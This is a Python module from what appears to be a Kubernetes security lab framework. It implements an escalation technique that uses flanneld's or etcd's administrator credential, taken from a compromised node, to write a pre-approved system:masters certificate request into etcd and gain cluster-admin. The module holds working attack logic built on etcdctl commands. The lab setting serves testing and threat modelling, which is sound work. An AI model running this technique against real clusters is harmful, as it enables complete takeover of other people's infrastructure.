"""Become cluster-admin by writing into etcd with a credential that is on the machine.

On a worker, the credential is flanneld's; on an etcd machine, it is that of etcd's administrator.
The attacker needs root on the machine. They write a certificate signing request for
``system:masters`` that is already marked as approved, and the controller manager signs it. Users
in etcd keep flanneld to its own keys, which stops it on a worker. Nothing stops root on an etcd
machine.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING

from labkit import agents
from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import Channel, Foothold, Model, read_model
from labkit.model.credentials import client_credential
from labkit.model.etcd_rights import KeyRange
from labkit.techniques._lib.api.forged import requests_after
from labkit.techniques._lib.machines.reach import Answer, address_in_lab, run_from
from labkit.techniques._lib.stores import forge as forging
from labkit.techniques._lib.stores.etcd import etcdctl, may_as_client
from labkit.techniques._lib.technique import (
    ADMIN,
    ROOT_ON_ETCD,
    ROOT_ON_WORKER,
    Prediction,
    SentRequest,
    Technique,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab, Output

__all__ = ["TECHNIQUE"]

CHANNEL = "flanneld@worker1 -> etcd@*"
TAKEN = "etcd accepts it from anyone with this credential; Kubernetes believes etcd"
#: etcd's error for a user who may not write to the key.
REFUSAL = "permission denied"


@dataclass(frozen=True, slots=True)
class _CredentialStore:
    """etcd through etcdctl, with the credential of the machine."""

    lab: Lab
    foothold: Foothold
    argv: tuple[str, ...]

    def put(self, key: str, value: bytes) -> Answer:
        output = self._run("put", key, stdin=value)
        if output.exit_code and REFUSAL not in output.error:
            raise ProbeError("etcd gave no known refusal", evidence=_tail(output))
        return Answer(0, b"", f"etcd: {REFUSAL}" if output.exit_code else "")

    def get(self, key: str) -> bytes:
        return self._run("get", "--print-value-only", key).stdout

    def _run(self, *arguments: str, stdin: bytes | None = None) -> Output:
        output = run_from(self.lab, self.foothold, [*self.argv, *arguments], stdin=stdin)
        if "context deadline exceeded" in output.error:
            raise ProbeTimeout("etcd did not answer", evidence=_tail(output))
        return output


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the credential on the machine may write the request's key in etcd."""
    channel = model.open_channels(CHANNEL)[0]
    if foothold == ROOT_ON_ETCD:
        source = channel.authorization.source
        return Prediction(True, (f"etcd's administrator writes everything: {source}",))
    return may_as_client(model, channel, "write", KeyRange.one(forging.KEY))


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return what the attacker asks the apiserver with the certificate."""
    return requests_after(model, predict(model, foothold))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Write an approved certificate request into etcd, and use the signed certificate."""
    if foothold == ROOT_ON_ETCD:
        argv = agents.argv("as_etcd_root", *etcdctl(lab))
        store = _CredentialStore(lab, foothold, tuple(argv))
        how = "as etcd's administrator"
    else:
        model = read_model(lab.environment)
        channel = model.open_channels(CHANNEL)[0]
        store = _CredentialStore(lab, foothold, tuple(_as_flanneld(lab, model, channel)))
        how = "as flanneld"
    return forging.forge(lab, TECHNIQUE.name, foothold, store, how, TAKEN)


def _as_flanneld(lab: Lab, model: Model, channel: Channel) -> list[str]:
    server = channel.server_node
    address_in_lab(lab, server)
    argv = etcdctl(lab)
    argv.append(f"--endpoints={channel.protocol}://{server}:{channel.port}")
    if credential := client_credential(model, channel):
        authority = next(a for a in lab.environment.authorities if a.name == credential.signed_by)
        argv += [f"--cert={credential.certificate}", f"--key={credential.key}"]
        argv.append(f"--cacert={authority.certificate}")
    return argv


def _tail(output: Output) -> list[str]:
    return output.error.strip().splitlines()[-3:]


TECHNIQUE = Technique(
    name="etcd-forge-credential",
    title="Become cluster-admin by writing into etcd with what the machine holds",
    footholds=(ROOT_ON_WORKER, ROOT_ON_ETCD),
    grants=(ADMIN,),
    about="flanneld@* -> etcd@*",
    properties=("client_authentication", "authorization"),
    attack=("T1565.001", "T1552.004", "T1098"),
    stride=("tampering", "elevation of privilege"),
    cwe=("CWE-269", "CWE-345"),
    sources=(*forging.SOURCES, "https://etcd.io/docs/latest/op-guide/authentication/rbac/"),
    predict=predict,
    execute=execute,
    requests=requests,
    leaves=forging.LEAVES,
)
